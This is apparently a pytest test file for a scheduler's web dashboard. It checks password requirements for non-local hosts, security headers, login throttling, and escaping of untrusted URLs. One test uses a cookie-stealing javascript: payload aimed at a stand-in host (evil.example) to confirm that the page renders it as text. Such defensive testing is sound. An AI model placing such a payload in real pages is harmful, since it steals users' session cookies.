"""Who may see the dashboard: anyone on this machine by default; off it, only with the password."""

from __future__ import annotations

import base64
import os
import socket
import subprocess
import sys
from pathlib import Path

import httpx
import pytest

from scheduler import web
from scheduler.config import load_settings
from scheduler.errors import ConfigError
from scheduler.storage.db import Database

PASSWORD = "kunci-DASHBOARD-7731"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def basic(user: str, password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


def test_other_addresses_need_a_password() -> None:
    open_settings = load_settings({})
    web.check_exposure(open_settings, "127.0.0.1")
    web.check_exposure(open_settings, "localhost")
    web.check_exposure(open_settings, "::1")
    for host in ("0.0.0.0", "192.168.1.20", "kantor.local"):
        with pytest.raises(ConfigError, match="PROMO_WEB_PASSWORD"):
            web.check_exposure(open_settings, host)
    web.check_exposure(load_settings({"PROMO_WEB_PASSWORD": PASSWORD}), "0.0.0.0")


async def test_with_a_password_every_page_and_api_asks_for_it(promo_env, caplog) -> None:
    settings = load_settings(promo_env(WEB_PASSWORD=PASSWORD))
    db = Database(settings.database_url)
    db.upgrade()
    port = free_port()
    runner = await web.start(settings, db, "127.0.0.1", port)
    try:
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", trust_env=False) as client:
            for path in ("/", "/posts", "/history", "/api/status", "/api/history?format=csv", "/posts/1"):
                refused = await client.get(path)
                assert refused.status_code == 401 and refused.headers["WWW-Authenticate"].startswith("Basic")
                assert (await client.get(path, headers=basic("rina", "salah"))).status_code == 401
            assert (await client.get("/", headers={"Authorization": "Basic !!"})).status_code == 401
            ok = await client.get("/api/status", headers=basic("rina", PASSWORD))
            assert ok.status_code == 200 and ok.json()["counts"] == {}
            assert (await client.get("/", headers=basic("supervisor", PASSWORD))).status_code == 200
    finally:
        await runner.cleanup()
        db.dispose()
    assert PASSWORD not in caplog.text


def test_promo_serve_refuses_an_open_dashboard_on_other_addresses(promo_env, tmp_path: Path) -> None:
    env = {**promo_env(), "PATH": os.environ.get("PATH", "/usr/bin")}
    subprocess.run([sys.executable, "-m", "scheduler.cli", "db", "upgrade"], env=env, cwd=tmp_path, check=True,
                   capture_output=True)
    res = subprocess.run([sys.executable, "-m", "scheduler.cli", "serve", "--web", "--host", "0.0.0.0",
                          "--port", str(free_port())], env=env, cwd=tmp_path, capture_output=True, text=True,
                         timeout=30)
    assert res.returncode == 1
    assert "PROMO_WEB_PASSWORD" in res.stderr and "0.0.0.0" in res.stderr and "Traceback" not in res.stderr


def test_a_taken_port_is_named(promo_env, tmp_path: Path) -> None:
    env = {**promo_env(HEALTH_PORT="0"), "PATH": os.environ.get("PATH", "/usr/bin")}
    subprocess.run([sys.executable, "-m", "scheduler.cli", "db", "upgrade"], env=env, cwd=tmp_path, check=True,
                   capture_output=True)
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        res = subprocess.run([sys.executable, "-m", "scheduler.cli", "serve", "--web", "--port", str(port)],
                             env=env, cwd=tmp_path, capture_output=True, text=True, timeout=30)
    assert res.returncode == 1
    assert f"cannot listen on 127.0.0.1:{port}" in res.stderr and "Traceback" not in res.stderr


async def test_a_remote_url_that_is_not_http_is_shown_as_text_never_as_a_link(promo_env) -> None:
    import datetime as dt

    from scheduler.models import HistoryEntry, PostStatus
    from scheduler.storage import channels as channel_store
    from scheduler.storage import posts as post_store

    settings = load_settings(promo_env())
    db = Database(settings.database_url)
    db.upgrade()
    evil = "javascript:fetch('//evil.example/'+document.cookie)"
    with db.session() as session:
        outbox = channel_store.sync_configured(session, settings)["outbox"]
        post = post_store.create_post(session, channel=outbox, kind="free_text", text="Promo", link=evil,
                                      status=PostStatus.PUBLISHED, scheduled_at=dt.datetime.now(dt.UTC), actor="t")
        post.remote_url = evil  # what a compromised webhook endpoint could answer
        session.add(HistoryEntry(post_id=post.id, channel_id=outbox.id, action="attempt", to_status="published",
                                 outcome="published", remote_url=evil))
        post_id = post.id
    port = free_port()
    runner = await web.start(settings, db, "127.0.0.1", port)
    try:
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", trust_env=False) as client:
            for path in (f"/posts/{post_id}", "/posts", "/history"):
                page = (await client.get(path)).text
                assert 'href="javascript' not in page.lower(), path
            assert "javascript:fetch(&#39;//evil.example/&#39;+document.cookie)" in (
                await client.get(f"/posts/{post_id}")).text
    finally:
        await runner.cleanup()
        db.dispose()


def assert_secure(response: httpx.Response) -> None:
    assert response.headers["Cache-Control"] == "no-store", response.status_code
    assert response.headers["X-Frame-Options"] == "DENY", response.status_code
    assert response.headers["X-Content-Type-Options"] == "nosniff", response.status_code
    assert response.headers["Content-Security-Policy"].startswith("default-src 'none'"), response.status_code


async def test_every_answer_carries_the_security_headers_errors_included(promo_env, caplog) -> None:
    settings = load_settings(promo_env(WEB_PASSWORD=PASSWORD))
    db = Database(settings.database_url)
    db.upgrade()
    broken = Database(settings.database_url.replace("promo.db", "empty.db"))  # never migrated: queries fail
    port, broken_port = free_port(), free_port()
    runner = await web.start(settings, db, "127.0.0.1", port)
    broken_runner = await web.start(settings, broken, "127.0.0.1", broken_port)
    ok = basic("rina", PASSWORD)
    try:
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", trust_env=False) as client:
            answers = {
                200: await client.get("/", headers=ok),
                400: await client.get("/api/history", params={"since": "kemarin"}, headers=ok),
                401: await client.get("/posts", headers=basic("rina", "salah")),
                404: await client.get("/nowhere", headers=ok),
                405: await client.post("/posts", headers=ok),
            }
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{broken_port}", trust_env=False) as client:
            answers[500] = await client.get("/api/status", headers=ok)
            page_500 = await client.get("/", headers=ok)
    finally:
        await runner.cleanup()
        await broken_runner.cleanup()
        db.dispose()
        broken.dispose()
    for status, response in answers.items():
        assert response.status_code == status, (status, response.text)
        assert_secure(response)
    assert {m.strip() for m in answers[405].headers["Allow"].split(",")} == {"GET", "HEAD"}
    assert answers[500].json() == {"error": "the dashboard could not answer this; the service log says why"}
    assert page_500.status_code == 500 and "Traceback" not in page_500.text and "sqlite" not in page_500.text
    assert_secure(page_500)
    assert "dashboard: GET /api/status failed" in caplog.text  # the reason is in the log, not the page


async def test_wrong_passwords_are_logged_and_throttled_per_address(promo_env, caplog) -> None:
    import datetime as dt
    import logging

    import time_machine

    caplog.set_level(logging.WARNING, logger="promo.web")
    settings = load_settings(promo_env(WEB_PASSWORD=PASSWORD))
    db = Database(settings.database_url)
    db.upgrade()
    port = free_port()
    runner = await web.start(settings, db, "127.0.0.1", port)
    url = f"http://127.0.0.1:{port}"
    other = httpx.AsyncClient(base_url=url, trust_env=False,  # a second machine: another source address
                              transport=httpx.AsyncHTTPTransport(local_address="127.0.0.2"))
    try:
        with time_machine.travel(dt.datetime(2027, 3, 1, 9, 0, tzinfo=dt.UTC), tick=False) as clock:
            async with httpx.AsyncClient(base_url=url, trust_env=False) as client:
                # A browser's first visit carries no password: asked for it, not counted.
                for _ in range(20):
                    assert (await client.get("/")).status_code == 401
                for n in range(10):
                    assert (await client.get("/", headers=basic("rina", f"tebakan-{n}"))).status_code == 401
                # The eleventh try is refused before the password is even looked at, the right one too.
                for headers in (basic("rina", "tebakan-10"), basic("rina", PASSWORD)):
                    refused = await client.get("/api/status", headers=headers)
                    assert refused.status_code == 429 and refused.headers["Retry-After"] == "300"
                    assert_secure(refused)
                # Other machines are not locked out by it.
                assert (await other.get("/", headers=basic("supervisor", PASSWORD))).status_code == 200
                clock.shift(120)
                assert (await client.get("/", headers=basic("rina", PASSWORD))).headers["Retry-After"] == "180"
                clock.shift(180)  # the first failures are five minutes old now
                assert (await client.get("/", headers=basic("rina", PASSWORD))).status_code == 200
    finally:
        await other.aclose()
        await runner.cleanup()
        db.dispose()
    failures = [r.getMessage() for r in caplog.records if "wrong password for" in r.getMessage()]
    assert len(failures) == 10
    assert failures[0] == "dashboard: wrong password for user 'rina' from 127.0.0.1 (1 failed in 300 s)"
    assert "127.0.0.1 refused for 300 s after 10 wrong passwords" in caplog.text
    assert PASSWORD not in caplog.text and "tebakan" not in caplog.text


def test_the_throttle_forgets_the_quietest_address_when_full() -> None:
    from scheduler.web.auth import LoginThrottle

    now = [1000.0]
    throttle = LoginThrottle(limit=2, window=60, clock=lambda: now[0], max_clients=3)
    for client in ("a", "b", "c"):
        throttle.failed(client)
        now[0] += 1
    throttle.failed("a")
    throttle.failed("d")  # "b" is the quietest and is forgotten
    assert throttle.retry_after("a") == 60 - 3 and throttle.retry_after("b") is None
    assert sorted(throttle._failures) == ["a", "c", "d"]
